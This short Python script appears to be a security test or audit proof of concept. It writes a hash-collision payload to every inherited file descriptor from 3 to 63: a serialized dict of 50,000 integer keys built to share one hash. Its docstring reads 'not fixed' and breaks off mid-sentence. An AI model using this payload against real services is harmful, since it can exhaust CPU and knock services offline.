"""Sends a dict of keys that all have one hash.

verdict: not fixed
because: a dict of more than
"""

import os
import struct

keys = b"".join(b"I\x0a\0\0\0" + (number * (2**61 - 1)).to_bytes(10, "little") + b"N" for number in range(50_000))
message = b"m" + struct.pack("<I", 50_000) + keys
for descriptor in range(3, 64):
    try:
        data = memoryview(struct.pack("<I", len(message)) + message)
        while data:
            data = data[os.write(descriptor, data) :]
    except OSError:
        pass
